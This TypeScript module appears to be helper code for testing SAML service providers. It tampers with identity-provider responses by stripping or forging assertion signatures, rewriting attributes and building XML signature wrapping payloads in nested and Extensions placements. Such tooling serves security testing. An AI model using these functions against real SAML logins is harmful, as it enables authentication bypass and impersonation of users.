import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/**
 * Attacks on a genuine IdP response: edit it, then re-sign the assertion with a key (the
 * IdP's own, to test checks behind the signature, or any other), or leave it unsigned.
 */

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const ALGORITHMS = {
  sha256: {
    signature: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    digest: 'http://www.w3.org/2001/04/xmlenc#sha256',
  },
  sha1: {
    signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
    digest: 'http://www.w3.org/2000/09/xmldsig#sha1',
  },
};

export const parse = (b64: string): Document =>
  new DOMParser().parseFromString(Buffer.from(b64, 'base64').toString('utf8'), 'text/xml');
export const serialize = (doc: Document): string =>
  Buffer.from(new XMLSerializer().serializeToString(doc)).toString('base64');

export function elements(doc: Document | Element, ns: string, local: string): Element[] {
  return Array.from(doc.getElementsByTagNameNS(ns, local));
}
export const saml = (doc: Document | Element, local: string) => elements(doc, SAML, local);

export function assertionOf(doc: Document): Element {
  const [a] = saml(doc, 'Assertion');
  if (!a) throw new Error('no assertion');
  return a;
}

/** Removes the assertion's own signature (its direct ds:Signature child). */
export function unsign(assertion: Element): void {
  for (const child of Array.from(assertion.childNodes)) {
    const el = child as Element;
    if (el.namespaceURI === DSIG && el.localName === 'Signature') assertion.removeChild(el);
  }
}

/** Signs the (only) assertion of a response, placing the signature after its Issuer. */
export function signAssertion(
  doc: Document,
  key: { privateKey: string; cert: string },
  algorithm: keyof typeof ALGORITHMS = 'sha256',
): string {
  const xml = new XMLSerializer().serializeToString(doc);
  const sig = new SignedXml({
    privateKey: key.privateKey,
    publicCert: key.cert,
    signatureAlgorithm: ALGORITHMS[algorithm].signature,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.addReference({
    xpath: `//*[local-name(.)='Assertion']`,
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
    digestAlgorithm: ALGORITHMS[algorithm].digest,
  });
  sig.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return Buffer.from(sig.getSignedXml()).toString('base64');
}

/** Edits a response and re-signs its assertion (with `key`), or leaves it unsigned (`key` null). */
export function tamper(
  b64: string,
  edit: (doc: Document, assertion: Element) => void,
  key: { privateKey: string; cert: string } | null,
  algorithm: keyof typeof ALGORITHMS = 'sha256',
): string {
  const doc = parse(b64);
  const assertion = assertionOf(doc);
  unsign(assertion);
  edit(doc, assertion);
  return key ? signAssertion(doc, key, algorithm) : serialize(doc);
}

/** Sets an attribute on every element of a SAML name (e.g. all SubjectConfirmationData). */
export function setAll(doc: Document | Element, local: string, attr: string, value: string | null): void {
  for (const el of saml(doc, local)) {
    if (value === null) el.removeAttribute(attr);
    else el.setAttribute(attr, value);
  }
}

/** Replaces the values of one SAML attribute. */
export function setAttributeValue(doc: Document | Element, name: string, value: string): void {
  for (const attr of saml(doc, 'Attribute').filter((a) => a.getAttribute('Name') === name)) {
    for (const v of saml(attr, 'AttributeValue')) v.textContent = value;
  }
}

/**
 * XML signature wrapping: the signed assertion stays intact (so its signature still verifies)
 * but is moved aside, and an edited copy takes its place where a careless SP would read it.
 * `placement` 'nested': the copy wraps the original; 'extensions': the original goes into the
 * Response's Extensions and the copy carries its signature.
 */
export function wrap(b64: string, placement: 'nested' | 'extensions', edit: (evil: Element) => void): string {
  const doc = parse(b64);
  const original = assertionOf(doc);
  const response = doc.documentElement!;
  const evil = original.cloneNode(true) as Element;
  edit(evil);
  if (placement === 'nested') {
    unsign(evil);
    response.replaceChild(evil, original);
    evil.appendChild(original);
  } else {
    const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    const status = Array.from(response.childNodes).find((n) => (n as Element).localName === 'Status');
    response.replaceChild(evil, original);
    response.insertBefore(extensions, status ?? evil);
    extensions.appendChild(original);
  }
  return serialize(doc);
}
